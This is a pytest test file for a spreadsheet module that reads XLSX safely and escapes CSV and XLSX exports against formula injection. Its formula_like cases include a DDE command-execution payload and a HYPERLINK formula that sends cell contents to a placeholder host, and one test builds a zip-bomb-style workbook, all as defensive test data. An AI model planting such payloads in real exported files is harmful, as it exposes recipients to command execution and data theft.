import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from pims.lib import spreadsheet
from pims.lib.spreadsheet import SheetError, column_letter, number_text, read_xlsx


def workbook(path: Path, rows: list[list]) -> Path:
    wb = Workbook()
    sheet = wb.active
    assert isinstance(sheet, Worksheet)
    for r in rows:
        sheet.append(r)
    wb.save(path)
    return path


def test_column_letters_follow_excel():
    assert [column_letter(i) for i in (0, 25, 26, 27, 701, 702)] == ["A", "Z", "AA", "AB", "ZZ", "AAA"]


def test_numbers_read_as_excel_shows_them():
    assert number_text(1.10105199001011e17) == "1.10105199001011E+17"  # never ...011008
    assert number_text(13812345678.0) == "13812345678"
    assert number_text(110105199001011234) == "110105199001011234"
    assert number_text(2.5) == "2.5"


def test_a_number_in_a_text_only_column_is_refused_with_its_cell(tmp_path):
    path = workbook(tmp_path / "a.xlsx", [["序号", "身份证号"], [1, 1.10105199001011e17], [2, "110105199001011234"]])
    header, first, second = read_xlsx(path, text_only=lambda h: {h.index("身份证号")})
    assert header.cells == ["序号", "身份证号"]
    assert first.cells[0] == "1" and first.refused == [
        spreadsheet.RefusedCell("B2", "身份证号", "1.10105199001011E+17")
    ]
    assert second.refused == [] and second.cells == ["2", "110105199001011234"]


def test_the_text_only_columns_are_chosen_from_the_header(tmp_path):
    path = workbook(tmp_path / "a.xlsx", [["电话", "姓名"], [13812345678, "张三"]])
    _h, row = read_xlsx(path, text_only=lambda h: [i for i, name in enumerate(h) if name == "电话"])
    assert [c.ref for c in row.refused] == ["A2"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04" + b"\x00" * 40, "损坏"),
        (b"not a zip at all", "损坏"),
    ],
)
def test_a_damaged_file_is_a_sheet_error(tmp_path, content, message):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content)
    with pytest.raises(SheetError, match=message):
        list(read_xlsx(path, text_only=lambda h: ()))


def rewritten(source: Path, target: Path, change) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = change(info.filename, src.read(info.filename))
            if data is not None:
                out.writestr(info.filename, data)
    return target


def test_a_workbook_without_worksheets_says_so(tmp_path):
    good = workbook(tmp_path / "good.xlsx", [["a"]])

    def drop_sheets(name, data):
        if "worksheets/" in name:
            return None
        return re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data) if name == "xl/workbook.xml" else data

    path = rewritten(good, tmp_path / "none.xlsx", drop_sheets)
    with pytest.raises(SheetError, match="没有工作表"):
        list(read_xlsx(path, text_only=lambda h: ()))


def test_an_empty_sheet_says_it_has_no_header(tmp_path):
    path = workbook(tmp_path / "empty.xlsx", [])
    with pytest.raises(SheetError, match="空的"):
        list(read_xlsx(path, text_only=lambda h: ()))


def test_broken_sheet_xml_is_a_sheet_error(tmp_path):
    good = workbook(tmp_path / "good.xlsx", [["a"], ["b"]])
    path = rewritten(
        good, tmp_path / "xml.xlsx", lambda name, data: data[: len(data) // 2] if "worksheets/" in name else data
    )
    with pytest.raises(SheetError):
        list(read_xlsx(path, text_only=lambda h: ()))


def test_a_zip_bomb_is_refused_before_parsing(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "RATIO_FLOOR_BYTES", 1 << 20)
    good = workbook(tmp_path / "good.xlsx", [["a"]])
    path = rewritten(
        good,
        tmp_path / "bomb.xlsx",
        lambda name, data: data + b" " * (4 << 20) if name == "xl/worksheets/sheet1.xml" else data,
    )
    with pytest.raises(SheetError, match="恶意"):
        list(read_xlsx(path, text_only=lambda h: ()))


def test_no_module_but_this_one_opens_workbooks_for_reading():
    """Every XLSX reader, now and later, goes through read_xlsx (and so
    refuses numeric identifiers)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root.parent))
        for path in root.rglob("*.py")
        if not {"tests", "tests_system"} & set(path.parts)  # tests read back what the product wrote
        and path.name != "spreadsheet.py"
        and "load_workbook" in path.read_text("utf-8")
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("=1+1", True),
        ('=HYPERLINK("http://x/"&A1)', True),
        ("@SUM(A1)", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("+cmd", True),
        ("\t=1", True),
        ("\r=1", True),
        ("  =1", True),
        ("-3", False),
        ("+1.5", False),
        ("12.5%", False),
        ("1,234", False),
        ("张三", False),
        ("a=b", False),
    ],
)
def test_formula_like_text(text, runs):
    assert spreadsheet.formula_like(text) is runs


@given(st.text())
@example("'=1")
@example("''@x")
def test_csv_escaping_is_inert_and_reads_back(text):
    written = spreadsheet.csv_value(text)
    assert not spreadsheet.formula_like(written)
    assert spreadsheet.unescape(written) == text


def test_csv_writer_escapes_every_cell_and_leaves_numbers():
    import io

    out = io.StringIO()
    spreadsheet.csv_writer(out, lineterminator="\n").writerow(["=1+1", -3, "-3", None, "@x"])
    assert out.getvalue() == "'=1+1,-3,-3,,'@x\n"


def test_xlsx_cells_keep_formula_text_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(spreadsheet.xlsx_row(ws, ["=1+1", "+x", 5, "plain"]))
    normal = Workbook()
    spreadsheet.xlsx_set(normal.active, 1, 1, "=2+2")
    wb.save(tmp_path / "w.xlsx")
    normal.save(tmp_path / "n.xlsx")
    row = next(load_workbook(tmp_path / "w.xlsx").active.iter_rows())
    assert [c.value for c in row] == ["=1+1", "+x", 5, "plain"]
    assert [c.data_type for c in row] == ["s", "s", "n", "s"] and row[0].quotePrefix
    cell = load_workbook(tmp_path / "n.xlsx").active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=2+2", "s", True)


# Writers that are not files a user opens in a spreadsheet.
NOT_EXPORTS = {"codes/forms.py"}  # the code table's edit box (a textarea), parsed back by the loader


def test_every_csv_and_xlsx_writer_escapes_through_this_module():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = str(path.relative_to(root))
        if "tests" in path.parts or rel == "lib/spreadsheet.py" or rel in NOT_EXPORTS:
            continue
        text = path.read_text("utf-8")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(f"{rel}: csv.writer (use spreadsheet.csv_writer)")
        if "Workbook(" in text and "spreadsheet.xlsx_" not in text:
            offenders.append(f"{rel}: Workbook without spreadsheet.xlsx_row/xlsx_set")
    assert offenders == []
